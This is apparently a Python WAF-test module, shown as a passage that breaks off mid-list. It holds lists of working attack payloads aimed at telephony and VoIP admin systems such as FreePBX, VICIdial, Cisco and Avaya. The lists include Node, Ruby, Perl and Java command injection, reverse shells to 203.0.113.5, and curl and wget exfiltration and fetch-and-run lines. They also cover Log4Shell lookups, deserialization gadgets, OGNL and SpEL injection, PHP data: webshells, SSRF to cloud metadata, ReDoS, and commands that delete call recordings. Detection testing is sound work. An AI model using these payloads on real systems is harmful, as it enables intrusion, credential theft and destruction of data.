"""Blind set "twohundredthirtieth": Node.js, SSRF, prototype pollution, Ruby, Perl, PHP data: includes, Java and
server-side template injection aimed at the web front ends of telephony and unified-communications systems, with
benign requests that carry the same words innocently.

The angle: telecom, VoIP and UC platforms, recalled from memory: IP-PBX admin panels (Asterisk with FreePBX,
Issabel, 3CX, Elastix), call-centre suites (VICIdial, GOautodial), SIP provisioning servers and phone configuration
files, voicemail and call-recording portals, CDR and billing reports, SMS and USSD gateways, WebRTC softphones,
Cisco and Avaya management pages, carrier self-care portals and number-porting forms. Payloads use each system's
own parameter names and quirks (extensions, trunks, dial strings, MAC-named provisioning files, callback URLs of
SMS gateways). A comment above each list names the family, the system and the target (interpreter, shell,
metadata service, template engine, product).

Families:
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization, class-loading, jsp-upload
  ssti (one sub-family per engine): jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes under arbitrary parameter names, as a query string, form body, JSON body, XML body,
a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole JSON documents (prototype
pollution, Fastjson/Jackson) go as JSON bodies, XStream/XMLDecoder documents as XML, YAML gadgets as YAML bodies;
bracket pairs go as raw `name=value` pairs; raw Java serialization bytes travel percent-encoded; JSP shells go up
as upload file names. Payloads with newlines never go into headers, cookies or the path.

Authorship and independence: written for this set from general knowledge of each attack family and the detection
titles alone, without reading the WAF's rules, the CRS or any payload list; measured once on unchanged code, and
no payload was changed after the measurement.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "twohundredthirtieth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
YB = ("yaml-body", "rs-yaml-body")
KV = ("form", "rs-raw-body")
UP = ("multipart-filename", "rs-multipart-filename")
XB = ("xml", "rs-xml")


def _fx(entries: list[str], places: tuple[str, str]) -> list[Entry]:
    return [(e, places[0], places[1]) for e in entries]


# ================================================================================================================
# generic
# nodejs-injection: Node.js interpreter behind WebRTC softphone gateways, SMS gateway webhooks and FreePBX's
# Node-based UCP (the "dial rule" / "message template" fields that reach eval or vm)
NODE: list[Entry] = [
    "require('child_process').exec('curl -d @/etc/asterisk/sip.conf http://203.0.113.5/')",
    "require('child_process').execSync('cat /etc/asterisk/manager.conf').toString()",
    "process.mainModule.require('child_process').execSync('id')",
    "global.process.mainModule.constructor._load('child_process').exec('nc 203.0.113.5 4444 -e /bin/sh')",
    "require('child_process').spawn('/bin/sh',['-c','asterisk -rx \"core show channels\" > /tmp/o'])",
    "require('fs').readFileSync('/etc/freepbx.conf','utf8')",
    "require('fs').writeFileSync('/var/www/html/admin/x.php','<?php system($_GET[c]);')",
    "eval(\"require('child_process').execSync('rm -f /var/spool/asterisk/monitor/*')\")",
    "Function('return process')().mainModule.require('child_process').execSync('whoami')",
    "new Function(\"return this.process.env\")()",
    "this.constructor.constructor('return process')().exit()",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().env')",
    "process.env.AMI_SECRET",
    "process.kill(process.pid)",
    "res.end(require('fs').readdirSync('/var/spool/asterisk/voicemail/default').toString())",
    "';require('child_process').exec('wget -qO- http://203.0.113.5/x|sh');//",
    "1;process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[]})",
    "require('http').get('http://203.0.113.5/?k='+process.env.TWILIO_AUTH_TOKEN)",
    "setTimeout(\"require('child_process').exec('reboot')\",1)",
    "import('child_process').then(m=>m.execSync('uname -a'))",
    "${require('child_process').execSync('id')}",
    "require('net').connect(4444,'203.0.113.5',function(){this.pipe(require('child_process').spawn('sh').stdin)})",
]

# nodejs-dos: Node.js event loop of a WebRTC signalling server / SMS gateway (catastrophic regexes, huge buffers,
# endless loops sent as "routing pattern" or "message" values)
NODE_DOS: list[Entry] = [
    "while(true){}",
    "for(;;){}",
    "Buffer.alloc(2**31-1)",
    "new Array(1e9).fill('ring')",
    "'a'.repeat(2**29)",
    "new RegExp('^(\\\\d+)+$').test('1'.repeat(40)+'x')",
    "/^(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
    "/(\\+?\\d+)*#/.test('+'.repeat(5000))",
    "require('crypto').pbkdf2Sync('x','y',1e10,64,'sha512')",
    "(function f(){f()})()",
    "process.nextTick(function r(){process.nextTick(r)})",
    "new Uint8Array(4294967295)",
    "JSON.parse('['.repeat(1e7))",
    "setInterval(()=>{Buffer.allocUnsafe(1e8)},0)",
    "do{}while(1)",
    "require('child_process').execSync('sleep 999')",
    "new Promise(()=>{while(1){}})",
    "Array.from({length:1e9},()=>'SIP/2.0')",
    "'x'.padEnd(1e9,'x')",
    "while(1)require('fs').openSync('/etc/asterisk/sip.conf','r')",
]

# ssrf-cloud-metadata: instance metadata (AWS, GCP, Azure, Alibaba, DigitalOcean, Oracle) reached through a PBX's
# "provisioning server URL", an SMS gateway's delivery-report callback or a softphone's avatar/ringtone fetch
SSRF_META: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/freepbx-ec2-role",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://169.254.169.254/latest/api/token",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/hostname",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/iam/",
    "http://0251.0376.0251.0376/latest/user-data",
    "http://169.254.43518/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
    "http://metadata/computeMetadata/v1/instance/attributes/kube-env",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1/user-data",
    "http://169.254.169.254/opc/v2/instance/",
    "http://instance-data/latest/meta-data/",
    "https://3cx.example.net/provisioning/?url=http://169.254.169.254/latest/meta-data/",
]

# ssrf-internal-ip: the PBX's own services (AMI 5038, ARI 8088, MySQL 3306, Redis) via loopback aliases,
# number forms and file/gopher/dict schemes in provisioning, webhook and ringtone URL fields
SSRF_INT: list[Entry] = [
    "http://127.0.0.1:8088/ari/channels?api_key=asterisk:asterisk",
    "http://localhost:5038/",
    "http://2130706433:8088/ari/asterisk/info",
    "http://0x7f000001/admin/config.php",
    "http://0177.0.0.1/admin/ajax.php?module=sysadmin",
    "http://127.1/recordings/index.php",
    "http://0/vicidial/admin.php",
    "http://[::1]:8088/httpstatus",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:5038/",
    "http://localtest.me:8080/",
    "http://127.0.0.1.nip.io/admin/",
    "http://10.0.0.1/cgi-bin/ConfigManApp.com?key=REBOOT",
    "http://192.168.1.1/admin/config.php?display=trunks",
    "http://172.16.0.10:9090/ucp/",
    "file:///etc/asterisk/sip_additional.conf",
    "file:///etc/amportal.conf",
    "file:///var/lib/asterisk/astdb.sqlite3",
    "gopher://127.0.0.1:5038/_Action:%20Login%0d%0aUsername:%20admin%0d%0aSecret:%20amp111%0d%0a%0d%0a",
    "gopher://127.0.0.1:6379/_FLUSHALL%0d%0aSET%20x%20pwn%0d%0aQUIT%0d%0a",
    "gopher://localhost:3306/_%a3%00%00%01%85%a6%ff%01%00%00%00%01%21",
    "dict://127.0.0.1:5038/Action:Originate",
    "dict://localhost:11211/stats",
    "tftp://127.0.0.1/SEP001122334455.cnf.xml",
    "http://127.0.0.1:8080/manager/html",
]

# javascript-prototype-pollution: Node.js UCP / WebRTC softphone settings endpoints that deep-merge JSON or parse
# qs-style brackets (the polluted flag then opens the admin extension pages)
PROTO: list[Entry] = _fx([
    '{"__proto__":{"isAdmin":true}}',
    '{"__proto__":{"role":"superadmin","extension":"*"}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"settings":{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\')'
    '.execSync(\'id\');s"}}}',
    '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\')'
    '.toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
    '{"sip":{"__proto__":{"allowGuest":true}}}',
    '{"__proto__":{"env":{"EVIL":"require(\'child_process\').execSync(\'id\')"},'
    '"NODE_OPTIONS":"-r /proc/self/environ"}}',
    '{"__proto__":{"status":510}}',
    '{"queue":{"constructor":{"prototype":{"canRecord":true}}}}',
    '{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}}',
], JB) + _fx([
    "__proto__[isAdmin]=true",
    "__proto__.isAdmin=true",
    "constructor[prototype][isAdmin]=1",
    "constructor.prototype.admin=true",
    "ext[__proto__][permissions]=all",
    "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
    "__proto__[escapeFunction]=1;return process.mainModule.require('child_process').execSync('id')",
    "settings[__proto__][client]=1",
    "__proto__[sourceURL]=\\u000aprocess.mainModule.require('child_process').execSync('id')",
    "trunk[constructor][prototype][username]=admin",
], KV)

# ruby-injection: Ruby interpreter in carrier self-care portals and number-porting apps built on Rails
# (eval of formatter strings, Kernel.open of uploaded LOA file names, ERB previews, YAML.load of config imports)
RUBY: list[Entry] = [
    "`cat /etc/asterisk/extensions.conf`",
    "%x(id)",
    "system('curl http://203.0.113.5/r.sh|bash')",
    "eval(\"system('id')\")",
    "Kernel.exec('/bin/sh -i')",
    "IO.popen('uname -a').read",
    "Open3.capture2('id')",
    "|cat /etc/passwd",
    "|curl http://203.0.113.5/$(whoami)",
    "open('|nc 203.0.113.5 4444 -e /bin/sh')",
    "Kernel.open('|id')",
    "<%= `id` %>",
    "<%= system('ls /var/spool/asterisk') %>",
    "<%= File.read('/etc/freepbx.conf') %>",
    "#{`id`}",
    "#{File.read('/etc/shadow')}",
    "'+`id`+'",
    "Object.const_get('Kernel').send(:system,'id')",
    "send(:eval,'`id`')",
    "instance_eval('exit!')",
    "Class.new.class_eval { `id` }",
    "1.instance_eval(\"%x{id}\")",
] + _fx([
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n"
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n"
    "  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
    "      read: 0\n      header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n"
    "      socket: &1 !ruby/object:Gem::RequestSet\n        sets: !ruby/object:Net::WriteAdapter\n"
    "          socket: !ruby/module 'Kernel'\n          method_id: :system\n        git_set: id\n"
    "      method_id: :resolve\n",
    "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
    "? ! \"foo; system('id') ;@foo\"\n: !ruby/object:OpenStruct\n  table:\n    :defaults: {}\n",
    "--- !ruby/object:ERB\nsrc: \"<%= `id` %>\"\n",
], YB)

# perl-injection: Perl CGIs of VICIdial, older Elastix and Cisco/Avaya web tools (two-argument open pipes,
# system, eval, qx in lead-loader and report parameters)
PERL: list[Entry] = [
    "|id|",
    "|/bin/cat /etc/astguiclient.conf|",
    "recording.wav|id",
    ";system('id');",
    "system(\"wget http://203.0.113.5/s -O /tmp/s;sh /tmp/s\")",
    "exec('/bin/sh')",
    "qx(id)",
    "qx{cat /etc/passwd}",
    "`id`",
    "eval{system('id')}",
    "eval \"system('uname -a')\"",
    "open(F,'|id');",
    "open(my $f,\"cat /etc/shadow|\");print <$f>",
    "${\\`id`}",
    "@{[system('id')]}",
    "@{[`cat /etc/asterisk/manager.conf`]}",
    "use POSIX;system('id')",
    "do '/tmp/x.pl'",
    "require '/tmp/evil.pl'",
    "print `ls -la /var/spool/asterisk/monitor`",
    "'.`id`.'",
    "\";system(\"id\");#",
]

# php-data-scheme: PHP include()/file_get_contents() of FreePBX, Issabel and Elastix modules given data: and
# php:// wrappers in their display/module/lang parameters
PHP_DATA: list[Entry] = [
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data://text/plain,<?php system('id');?>",
    "data:text/plain,<?php phpinfo();?>",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data://text/plain;base64,PD9waHAgZWNobyBzaGVsbF9leGVjKCdhc3Rlcmlzay==",
    "data:;base64,PD9waHAgc3lzdGVtKCdjYXQgL2V0Yy9hbXBvcnRhbC5jb25mJyk7Pz4=",
    "data://text/html,<?=`id`?>",
    "data:application/x-httpd-php,<?php passthru($_REQUEST['c']); ?>",
    "data://text/plain;charset=utf-8,<?php system('asterisk -rx \"sip show peers\"');?>",
    "DATA://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "data:text/plain;base64,PD89YGlkYDs/Pg==",
    "data://,<?php eval($_POST[1]);?>",
    "php://input",
    "php://filter/convert.base64-encode/resource=/etc/freepbx.conf",
    "php://filter/read=string.rot13/resource=/var/www/html/admin/config.php",
    "expect://id",
    "zip:///var/spool/asterisk/tmp/upload.zip%23shell.php",
    "phar:///var/www/html/admin/modules/backup/x.phar/test.txt",
    "data:text/plain;base64,PD9waHAgZmlsZV9wdXRfY29udGVudHMoJ3MucGhwJywnPD9waHAgc3lzdGVtKCRfR0VUWzFdKTsnKTsgPz4=",
    "data://text/plain;base64,PD9waHAgQGV2YWwoJF9SRVFVRVNUWydjbWQnXSk7Pz4%3D",
]

# ================================================================================================================
# java
# java-class-names: Java interpreters behind Cisco Unified CM / Avaya Aura admin pages and Java SIP servers
# (expression or script fields that name the dangerous classes)
JAVA_CLASS: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id\"})",
    "java.lang.Runtime.getRuntime().exec(\"cat /opt/cisco/platform/conf/platformConfig.xml\")",
    "new java.lang.ProcessBuilder(\"id\").start()",
    "java.lang.Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "java.lang.System.exit(0)",
    "java.lang.System.getenv()",
    "java.lang.System.getProperty(\"user.dir\")",
    "new java.io.FileInputStream(\"/etc/passwd\")",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/shadow\"))",
    "java.lang.ClassLoader.getSystemClassLoader()",
    "sun.misc.Unsafe.getUnsafe()",
    "javax.naming.InitialContext().lookup(\"ldap://203.0.113.5/x\")",
    "java.lang.reflect.Method.invoke",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
]

# java-process-spawn: spawning a shell from Java on an Avaya/Cisco appliance (Runtime.exec and ProcessBuilder with
# reverse shells and the appliance's own CLI)
JAVA_SPAWN: list[Entry] = [
    "Runtime.getRuntime().exec(\"bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjE=}|{base64,-d}"
    "|{bash,-i}\")",
    "new ProcessBuilder(\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\").start()",
    "new ProcessBuilder(new String[]{\"cmd.exe\",\"/c\",\"net user avaya P@ss /add\"}).start()",
    "Runtime.getRuntime().exec(\"wget http://203.0.113.5/s.sh -O /tmp/s.sh\")",
    "Runtime.getRuntime().exec(\"/usr/local/bin/utils service restart Cisco CallManager\")",
    "new ProcessBuilder(\"sh\",\"-c\",\"cat /etc/opt/avaya/ipo.conf\").redirectErrorStream(true).start()",
    "Runtime.getRuntime().exec(\"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\")",
    "java.lang.Runtime.getRuntime().exec(\"nc -e /bin/sh 203.0.113.5 4444\").waitFor()",
    "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
    "Runtime.getRuntime().exec(\"curl -F f=@/opt/3cx/config.xml http://203.0.113.5/\")",
    "new ProcessBuilder(\"ping\",\"-c\",\"5\",\"203.0.113.5\").inheritIO().start()",
    "java.lang.Runtime.getRuntime().exec(\"touch /tmp/pwned\")",
    "ProcessBuilder pb=new ProcessBuilder(\"id\");pb.start();",
    "Runtime r=Runtime.getRuntime();Process p=r.exec(\"whoami\");",
    "new ProcessBuilder(\"rm\",\"-rf\",\"/var/log/cdr\").start()",
    "Runtime.getRuntime().exec(\"/bin/sh -c $@|sh . echo id\")",
]

# java-serialization: raw Java object streams (ac ed 00 05) and their base64 (rO0AB), gzip+base64 (H4sI) and hex
# forms, posted to the Java services of Cisco UC, Avaya Aura and Java-based SIP application servers
JAVA_SER: list[Entry] = [
    "\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00"
    "\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01",
    "\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02",
    "\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04size",
    "\xac\xed\x00\x05sr\x00.javax.management.BadAttributeValueExpException\xd4\xe7\xda\xab",
    "\xac\xed\x00\x05sr\x00\x0cjava.net.URL\x96%76\x1a\xfc\xe4r\x03\x00\x07I\x00\x08hashCodeI\x00\x04port",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB",
    "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVy",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0Nv",
    "rO0ABXNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u1OfaqyNjNHUCAAFMAAN2YWx0ABJMamF2YS9s",
    "rO0ABXNyAAxqYXZhLm5ldC5VUkyWJTc2GvzkcgMAB0kACGhhc2hDb2RlSQAEcG9ydEwACWF1dGhvcml0eXQAEkxqYXZhL2xhbmcvU3RyaW5n",
    "rO0ABXQABGNhbGw=",
    "H4sIAAAAAAAAAFvzloG1uIhBNzyxKNUvNzWnJDNZzzk/L7/IuiU/PjU/vr/kNT0kvrlIIFB0oG5qXnJqUmmRYmpeck2qUz",
    "aced0005737200116a6176612e7574696c2e486173684d61700507dac1c31660d103000246000a6c6f6164466163746f72",
    "ACED0005737200176A6176612E7574696C2E5072696F72697479517565756594DA30B4FB3F82B1030002490004",
    "%ac%ed%00%05sr%00%11java.util.HashMap",
    "\\xac\\xed\\x00\\x05sr\\x00\\x0cjava.net.URL",
    "javax.faces.ViewState=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
    "rO0ABXNyAD5vcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVy",
]

# deserialization-gadgets: the gadget-chain class names ysoserial builds, as they appear in serialized or textual
# payloads sent to Java UC servers (commons-collections, Spring, Groovy, JDK7u21, C3P0, ROME, Hibernate)
GADGETS: list[Entry] = [
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections.functors.ChainedTransformer",
    "org.apache.commons.collections4.functors.InstantiateTransformer",
    "org.apache.commons.collections.keyvalue.TiedMapEntry",
    "org.apache.commons.collections.map.LazyMap",
    "org.springframework.beans.factory.ObjectFactory",
    "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
    "org.codehaus.groovy.runtime.ConvertedClosure",
    "org.codehaus.groovy.runtime.MethodClosure",
    "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
    "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
    "com.sun.syndication.feed.impl.ObjectBean",
    "com.rometools.rome.feed.impl.EqualsBean",
    "org.hibernate.engine.spi.TypedValue",
    "org.hibernate.tuple.component.AbstractComponentTuplizer",
    "java.util.PriorityQueue org.apache.commons.beanutils.BeanComparator",
    "sun.reflect.annotation.AnnotationInvocationHandler java.util.LinkedHashSet javax.xml.transform.Templates",
    "org.apache.xalan.xsltc.trax.TemplatesImpl _bytecodes",
    "bsh.XThis",
    "org.mozilla.javascript.NativeJavaObject",
]

# log4shell: ${jndi:...} lookups aimed at Java UC products that log SIP User-Agent, caller ID and login names
# (Cisco UC, Avaya, 3CX's Java tools, Java SIP servlet containers); nested and encoded lookups
LOG4J: list[Entry] = [
    "${jndi:ldap://203.0.113.5:1389/Exploit}",
    "${jndi:ldap://203.0.113.5/cucm}",
    "${jndi:rmi://203.0.113.5:1099/avaya}",
    "${jndi:dns://203.0.113.5/sip}",
    "${jndi:ldaps://203.0.113.5/a}",
    "${jndi:iiop://203.0.113.5/a}",
    "${jndi:ldap://${env:HOSTNAME}.203.0.113.5.nip.io/a}",
    "${jndi:ldap://${sys:java.version}.x.oast.example/a}",
    "${${lower:j}ndi:${lower:l}dap://203.0.113.5/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.5/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.5/a}",
    "${${upper:j}ndi:ldap://203.0.113.5/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.5/a}",
    "${jnd${123%25ff:-i}:ldap://203.0.113.5/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.5/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D",
    "$%7Bjndi:ldap://203.0.113.5/sipua%7D",
    "${jndi:ldap://127.0.0.1#203.0.113.5:1389/a}",
    "sip:${jndi:ldap://203.0.113.5/callerid}@pbx.example.com",
    "\"${jndi:ldap://203.0.113.5/cid}\" <sip:1001@10.0.0.2>",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.5/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.5/a}",
]

# expression-language: OGNL (Struts-based carrier portals), SpEL (Spring-based provisioning servers), MVEL, JEXL
# and JSP EL in Cisco/Avaya admin pages
EL: list[Entry] = [
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}",
    "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec('id')}",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id')"
    ".(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))}",
    ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)"
     ".(@java.lang.Runtime@getRuntime().exec('id'))}", "header:Content-Type", "rs-header:Content-Type"),
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
    "${T(java.lang.System).getenv()}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "new java.lang.ProcessBuilder({'id'}).start()",
    "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}",
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/spel\")", "header:spring.cloud.function.routing-expression",
     "rs-header:spring.cloud.function.routing-expression"),
    "@java.lang.Runtime@getRuntime().exec('id')",
    "Runtime.getRuntime().exec('id');",
    "''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${pageContext.request.getSession().setAttribute('admin',true)}",
    "${applicationScope}",
    "${header['Cookie']}",
    "#{facesContext.externalContext.redirect('http://203.0.113.5/')}",
    "${pageContext.servletContext.getResource('/WEB-INF/web.xml')}",
]

# polymorphic-deserialization: XStream and XMLDecoder documents (Java SIP/UC SOAP endpoints), Fastjson and Jackson
# JSON with type hints (Java provisioning APIs of carrier portals)
POLY: list[Entry] = _fx([
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.5:1389/Exploit","autoCommit":true}',
    '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl",'
    '"dataSourceName":"rmi://203.0.113.5:1099/Exploit","autoCommit":true}}',
    '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://203.0.113.5/a","autoCommit":true}',
    '{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://203.0.113.5/a"}',
    '{"@type":"java.net.Inet4Address","val":"x.oast.example"}',
    '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.5/a","autoCommit":true}]',
    '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM '
    '\'http://203.0.113.5/x.sql\'"}]',
    '{"extension":["org.springframework.context.support.ClassPathXmlApplicationContext",'
    '"http://203.0.113.5/spel.xml"]}',
    '{"@class":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://203.0.113.5/a"}',
    '{"trunk":{"@type":"com.mchange.v2.c3p0.JndiRefForwardingDataSource","jndiName":"rmi://203.0.113.5/a",'
    '"loginTimeout":0}}',
], JB) + _fx([
    "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
    "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
    "<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value "
    "class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler/></value>"
    "</jdk.nashorn.internal.objects.NativeString></entry></map>",
    "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
    "<array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array>"
    "<void method=\"start\"/></object></java>",
    "<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>"
    "touch /tmp/x</string></void></object></java>",
    "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
    "<default><size>2</size></default><int>3</int><javax.naming.ldap.Rdn_-RdnEntry><type>x</type>"
    "</javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue></java.util.PriorityQueue>",
    "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
    "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><object "
    "class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\">"
    "<string>/bin/sh</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\">"
    "<string>id</string></void></array><void method=\"start\"/></object></java></work:WorkContext>"
    "</soapenv:Header><soapenv:Body/></soapenv:Envelope>",
], XB)

# class-loading: URLClassLoader / defineClass / Spring4Shell class.module.classLoader on Java provisioning servers
CLASSLOAD: list[Entry] = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://203.0.113.5/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL('http://203.0.113.5/')})",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',"
